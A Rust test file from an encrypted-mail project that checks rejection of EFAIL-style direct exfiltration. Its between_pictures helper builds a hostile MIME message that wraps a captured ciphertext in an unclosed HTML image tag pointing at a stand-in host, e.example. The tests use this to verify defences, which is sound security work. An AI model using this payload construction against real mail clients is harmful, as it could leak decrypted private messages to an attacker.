//! EFAIL's direct exfiltration, and what is left of it here: somebody puts a ciphertext that they
//! cannot read between parts of their own, and hopes that the reader's program decrypts it in place
//! and sends it away with a picture.

use super::house::{Delivery, House, Sent, rng};
use super::refusals::sign;
use crate::draft::Attachment;
use crate::error::OpenError;
use crate::limits::PART_OCTETS_MAX;
use crate::mime::read;
use crate::open::{Carried, open_carrier, verify_letter};
use sealpost_cms::enveloped::{ContentKey, KeyEncryptionKey, RecipientSlot, seal};
use sealpost_erds::ConsignmentMode::Basic;
use sealpost_erds::relay::PartDigest;
use sealpost_erds::slip::Share;

const SECRET: &[u8] = b"hiermit k";

fn basic(house: &House) -> Sent {
    house.send(&house.draft(Basic, &[&house.bert], &[], &[])).remove(0)
}

/// The mail of EFAIL: an open picture, the ciphertext, the end of the picture.
fn between_pictures(ciphertext_mail: &[u8]) -> Vec<u8> {
    let head = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
        --b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://e.example/\r\n--b\r\n";
    let end = b"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";
    [head, ciphertext_mail, end].concat()
}

fn holds(octets: &[u8], secret: &[u8]) -> bool {
    octets.windows(secret.len()).any(|window| window == secret)
}

/// The part as a provider in league with the attacker would announce it.
fn announced(delivery: &Delivery, part: &[u8]) -> Result<Carried, OpenError> {
    let mut metadata = delivery.metadata.clone();
    metadata.enveloped = PartDigest::of(part);
    open_carrier(part, &metadata, &delivery.slip.carrier_key)
}

#[test]
fn a_ciphertext_between_foreign_parts_is_not_even_looked_for() {
    let house = House::new();
    let sent = basic(&house);
    let delivery = sent.to(&house.bert);
    let mail = delivery.carried().to_mail();
    for hostile in [between_pictures(&mail), mail.clone(), between_pictures(&delivery.enveloped)] {
        assert!(hostile.len() < PART_OCTETS_MAX);
        let opened = Carried::from_octets(hostile.clone()).map(drop);
        assert!(matches!(opened, Err(OpenError::Malformed(_))), "{opened:?}");
        let opened = announced(delivery, &hostile).map(drop);
        assert!(matches!(opened, Err(OpenError::Malformed(_))), "{opened:?}");
    }
    // The same octets without their company are opened: the refusals are not for another reason.
    assert!(announced(delivery, &delivery.enveloped).is_ok());
}

#[test]
fn foreign_parts_inside_of_the_outer_layer_are_refused_as_well() {
    let house = House::new();
    let sent = basic(&house);
    let delivery = sent.to(&house.bert);
    let inner = delivery.carried();
    // Whoever holds a carrier key can write what it encrypts: a provider on the way.
    let share = Share::random(&mut rng());
    let kek = KeyEncryptionKey::from_bytes(*share.expose());
    let key = ContentKey::generate(&mut rng());
    let id = delivery.metadata.dispatch_id;
    let slots = [RecipientSlot::KeyEncryption { id: id.as_array(), kek: &kek }];
    let outer = seal(&between_pictures(&inner.to_mail()), &slots, &key, &mut rng()).unwrap();
    let mut metadata = delivery.metadata.clone();
    metadata.enveloped = PartDigest::of(&outer);
    let carried = open_carrier(&outer, &metadata, &share).unwrap();
    let asked = carried.key_request(&house.bert.encryption.1).map(drop);
    assert!(matches!(asked, Err(OpenError::Malformed(_))), "no key is asked: {asked:?}");
}

#[test]
fn a_ciphertext_attached_to_another_letter_stays_a_file() {
    let house = House::new();
    let captured = basic(&house).to(&house.bert).carried().octets().to_vec();
    let mut bait = house.draft(Basic, &[&house.bert], &[], &[]);
    bait.text = "Please open the attachment.\n".to_owned();
    bait.attachments = vec![Attachment {
        file_name: "smime.p7m".to_owned(),
        media_type: "application/pkcs7-mime".to_owned(),
        octets: captured.clone(),
    }];
    let sent = house.send(&bait).remove(0);
    let letter = sent.to(&house.bert).letter(&house, &house.bert, None).passed().unwrap();
    let letter = letter.get();
    assert_eq!(letter.attachments().len(), 1);
    assert!(letter.attachments()[0].octets == captured, "as it came, encrypted");
    assert!(!holds(letter.text().as_bytes(), SECRET) && !holds(letter.mime(), SECRET));
}

#[test]
fn signed_html_and_nested_parts_are_no_letter() {
    let house = House::new();
    let sent = basic(&house);
    let delivery = sent.to(&house.bert);
    let letter = delivery.letter(&house, &house.bert, None).passed().unwrap();
    let (mime, binding) = (letter.get().mime().to_vec(), letter.get().binding().clone());
    let mime = String::from_utf8(mime).unwrap();
    let text_type = "Content-Type: text/plain; charset=utf-8";
    assert!(mime.contains(text_type), "{mime:.600}");
    for other in [
        "Content-Type: text/html; charset=utf-8",
        "Content-Type: multipart/mixed; boundary=inner",
        "Content-Type: multipart/alternative; boundary=inner",
        "Content-Type: message/rfc822",
        "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data",
    ] {
        let hostile = mime.replacen(text_type, other, 1);
        assert!(read::entity(hostile.as_bytes()).is_err(), "{other}");
        // Not even with the sender's own signature.
        let signed = sign(hostile.as_bytes(), &house.anna.signing, &binding);
        let reader = delivery.reader(&house.bert);
        let outcome = verify_letter(&signed, &reader, &house.verification());
        assert_eq!(outcome.indication(), "TOTAL-FAILED", "{other}");
    }
}
